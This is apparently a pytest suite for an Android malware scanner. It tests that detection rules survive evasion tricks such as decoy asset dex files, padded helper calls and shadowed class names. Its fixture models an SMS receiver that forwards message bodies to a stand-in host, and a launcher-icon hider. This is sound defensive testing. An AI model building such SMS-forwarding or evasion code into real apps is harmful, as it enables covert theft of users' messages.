"""Cheap tricks of a writer of malware hide nothing from rules that follow code."""

import ast
import io
import struct
import zipfile

import pytest

from patterns import pattern_set, rule_source
from patterns.rule_language import Behaviour
from scanner.app_code import in_androids_order
from scanner.code_file import CodeFile
from scanner.dex import BrokenDexError
from scanner.program import Program
from tests.scanner.conftest import Scan, rules_of
from tests.scanner.samples.dex_model import ClassBody
from tests.scanner.samples.dex_writer import write_dex
from tests.scanner.samples.sample import Sample, build, classes_of, read_pair, read_sample
from tests.scanner.samples.tricks import TRICKS
from tests.scanner.test_shipped_patterns import NOT_HIDDEN

FOLLOWING = sorted(
    rule.id
    for rule in rule_source.read_source(pattern_set.SHIPPED).rules
    if isinstance(rule, Behaviour) and rule.code and rule.id not in NOT_HIDDEN
)


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_that_costs_minutes_hides_nothing(trick: str, scan_here: Scan) -> None:
    style, change = TRICKS[trick]
    missed = {}
    for rule in FOLLOWING:
        result = scan_here(build(read_pair(rule).sample, style, change))
        if rule not in rules_of(result):
            missed[rule] = result["skipped"]

    assert missed == {}


# Of single tricks, each beside what is no trick.

DECOY = """
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        pass
"""


def test_the_class_that_android_loads_first_is_the_one_that_is_followed() -> None:
    names = ["assets/x.dex", "classes10.dex", "in.apk!/classes.dex", "classes2.dex", "classes.dex"]
    dex = write_dex(classes_of(read_sample(DECOY)))

    files = in_androids_order([CodeFile(name, dex) for name in names])

    assert [file.place for file in files] == [
        "classes.dex",
        "classes2.dex",
        "classes10.dex",
        "in.apk!/classes.dex",
        "assets/x.dex",
    ]


def test_a_class_of_the_same_name_in_an_asset_hides_nothing(scan_here: Scan) -> None:
    sample = read_pair("message_interceptor").sample
    decoy = write_dex(classes_of(read_sample(DECOY)))
    apk = io.BytesIO()
    with zipfile.ZipFile(apk, "w") as archive:
        archive.writestr("assets/x.dex", decoy)
        with zipfile.ZipFile(io.BytesIO(build(sample))) as plain:
            for name in plain.namelist():
                archive.writestr(name, plain.read(name))

    assert "message_interceptor" in rules_of(scan_here(apk.getvalue()))


HELPED = """
permissions("RECEIVE_SMS", "INTERNET")

@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"])
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        pdu = cast("byte[]", intent.getExtras().get("pdus"))
        message = SmsMessage.createFromPdu(pdu)
        {calls}
        self.post({last})
    def post(self, text: String):
        connection = URL("https://example.org/in").openConnection()
        connection.getOutputStream().write(text.getBytes())
"""
OTHERS = (
    "context.getPackageName()", "intent.getAction()", "URL('https://a.org/').toString()",
    "message.getOriginatingAddress()", "intent.getDataString()", "'a'",
)  # fmt: skip


@pytest.mark.parametrize(
    ("last", "holds"), [("message.getMessageBody()", True), ("'nothing'", False)]
)
def test_the_ninth_call_of_a_helper_counts_like_the_first(
    last: str, holds: bool, scan_here: Scan
) -> None:
    calls = [f"self.post({text}.concat('{n}'))" for n in range(3) for text in OTHERS]
    app = HELPED.format(calls="\n        ".join(calls), last=last)

    result = scan_here(build(read_sample(app)))

    assert ("sms_forwarder" in rules_of(result)) == holds
    assert result["skipped"] == []


def test_a_number_among_many_others_that_one_method_is_given_counts(scan_here: Scan) -> None:
    hidden = "self.getPackageManager().setComponentEnabledSetting(name, {}, 1)"
    sample = read_pair("icon_remover").sample
    calls = "\n        ".join(f"self.set(name, {n})" for n in (1, 0, 3, 4, 5, 6, 7, 8, 9, 10, 2))
    app = read_sample(
        f"""
@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        name = ComponentName(self, Main)
        {calls}
    def set(self, name: ComponentName, state: int):
        {hidden.format("state")}
""",
        sample,
    )

    assert "icon_remover" in rules_of(scan_here(build(app)))
    assert "icon_remover" not in rules_of(scan_here(build(_other_number(app))))


def _other_number(app: Sample) -> Sample:
    text = ast.unparse(app.classes["Main"]).replace("self.set(name, 2)", "self.set(name, 1)")
    return read_sample(text, app)


def test_a_class_named_like_one_of_androids_neither_runs_nor_hides_the_flow() -> None:
    names = ("Landroid/app/Service;", "Landroid/x/Service;")
    own = [ClassBody(name, "Ljava/lang/Object;") for name in names]
    code = Program([CodeFile("classes.dex", write_dex(own))])

    assert [code.classes.find(name) for name in names] == [None, (0, 1)]


@pytest.mark.parametrize(("count", "told"), [(70_000, True), (40_000, False)])
def test_a_class_with_more_fields_than_code_can_name_is_told(count: int, told: bool) -> None:
    data = bytearray(write_dex(classes_of(read_sample(DECOY))))
    (at,) = struct.unpack_from("<I", data, struct.unpack_from("<I", data, 0x64)[0] + 24)
    (methods,) = data[at + 2 : at + 3]
    members = uleb(count) + b"\0" + bytes((methods, data[at + 3])) + b"\1\1" * count
    new = len(data)
    members += data[at + 4 :][: 10 * (methods + data[at + 3])]
    struct.pack_into("<I", data, struct.unpack_from("<I", data, 0x64)[0] + 24, new)
    file = CodeFile("classes.dex", bytes(data + members))

    if told:
        with pytest.raises(BrokenDexError, match="more members"):
            file.coded(0)
    else:
        assert {code for _, code in file.coded(0)} == {
            code for _, code in CodeFile("a", write_dex(classes_of(read_sample(DECOY)))).coded(0)
        }


def uleb(number: int) -> bytes:
    """Return *number* as ULEB128."""
    body = b""
    while number >= 0x80:
        body += bytes((number & 0x7F | 0x80,))
        number >>= 7
    return body + bytes((number,))
